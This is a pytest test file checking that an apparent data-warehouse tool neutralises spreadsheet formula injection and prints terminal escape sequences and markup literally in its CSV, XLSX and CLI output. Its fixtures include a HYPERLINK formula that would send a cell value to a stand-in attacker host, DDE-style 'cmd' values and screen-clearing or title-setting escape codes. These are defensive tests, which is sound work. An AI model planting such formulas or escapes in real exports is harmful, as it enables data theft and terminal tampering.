"""Output to people and spreadsheets (issue 20, class 6): document text never
becomes rich markup or terminal control, and never a live spreadsheet
formula. The hostile names come from fixtures/attack/synthetic_hostile_names.md
(scripts/make_attack_fixtures.py)."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pytest
from typer.testing import CliRunner

from ingest.parsing import prepare_file
from tests.support import FIXTURES
from tongbao.cli import app
from warehouse.cells import neutralise_formula, xlsx_cell
from warehouse.connection import open_warehouse
from warehouse.export import export_model
from warehouse.load import load_bulletin, record_rejection
from warehouse.models import build_models

runner = CliRunner()
NAMES = FIXTURES / "attack" / "synthetic_hostile_names.md"


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory):
    root = tmp_path_factory.mktemp("safe")
    odd = root / "inbox[" / "]names.md"  # the path holds `[/]`
    odd.parent.mkdir()
    shutil.copy(NAMES, odd)
    path = root / "w.duckdb"
    with open_warehouse(path) as con:
        load_bulletin(con, prepare_file(odd))
        record_rejection(con, str(root / "x[" / "]bad.txt"), None, "empty", "\x1b[2J[/] is empty", "test")
        build_models(con)
    return path


def test_formulas_are_neutralised_by_the_owasp_rule():
    assert neutralise_formula('=HYPERLINK("http://x")') == '\'=HYPERLINK("http://x")'
    assert neutralise_formula("@SUM(1)") == "'@SUM(1)"
    assert neutralise_formula("+cmd|x") == "'+cmd|x"
    assert neutralise_formula("\tx") == "'\tx"
    assert neutralise_formula("-5") == "-5" and neutralise_formula("-") == "-" and neutralise_formula(-5) == -5
    assert xlsx_cell("市民政局\x01") == "市民政局\\x01"


def test_csv_export_holds_no_live_formula(warehouse, tmp_path):
    out = tmp_path / "uq.csv"
    with open_warehouse(warehouse, read_only=True) as con:
        export_model(con, "unit_quarter", out, "csv")
    names = {r["unit_name"] for r in csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines())}
    assert '\'=HYPERLINK("http://evil.example/?q="&A1,"点击查看")' in names
    assert "'=cmd" in names and "'@SUM(1+1)*cmd" in names
    assert "市[/]教育局[bold]" in names
    assert not any(n.startswith(("=", "+", "@")) for n in names)
    assert not list(tmp_path.glob(".*tmp*"))  # written under a temporary name, then renamed


def test_xlsx_export_stores_text_not_formulas_and_survives_control_characters(warehouse, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "uq.xlsx"
    with open_warehouse(warehouse, read_only=True) as con:
        export_model(con, "unit_quarter", out, "xlsx")
    sheet = load_workbook(out)["unit_quarter"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert "市民政局\\x01\\x02" in values
    assert "\\x1b[31m市公安局\\x1b]0;owned\\x07" in values


def test_a_failed_export_leaves_the_previous_file(warehouse, tmp_path):
    out = tmp_path / "uq.csv"
    out.write_text("good old export\n")
    with open_warehouse(warehouse, read_only=True) as con, pytest.raises(Exception):
        export_model(con, "unit_quarter", out, "csv", city="吉林市", year="not a year")
    assert out.read_text() == "good old export\n"


@pytest.mark.parametrize("args", [
    ["query", "select distinct unit_name, source_file from unit_metrics join bulletins using (bulletin_id)"],
    ["status"],
    ["units"],
])
def test_markup_and_escapes_from_documents_print_literally(warehouse, args):
    result = runner.invoke(app, args + ["-w", str(warehouse)], env={"COLUMNS": "250"})
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    if args[0] != "status":
        assert "市[/]教育局[bold]" in result.output
        assert "\\x1b[31m市公安局" in result.output
    else:
        assert "inbox[/]names.md" in result.output
        assert "\\x1b[2J[/] is empty" in result.output


def test_the_ingest_summary_prints_paths_with_markup(capsys):
    from tongbao.cli.ingest_commands import _print_summary

    summary = {"counts": {"rejected": 1}, "rejected_by_reason": {"empty": 1}, "models": [], "model_error": None,
               "seconds": {"total": 0.1}, "runner": "thread",
               "files": [{"path": "/in[/]box/\x1b[31mx.txt", "status": "rejected", "reason": "empty",
                          "message": "[/]\x1b]0;t\x07 is empty", "sha256": None}]}
    _print_summary(summary, Path("/w[/].duckdb"))
    out = capsys.readouterr().out
    assert "/in[/]box/\\x1b[31mx.txt" in out.replace("\n", "").replace(" ", "") or "\\x1b[31mx.txt" in out
    assert "\x1b" not in out
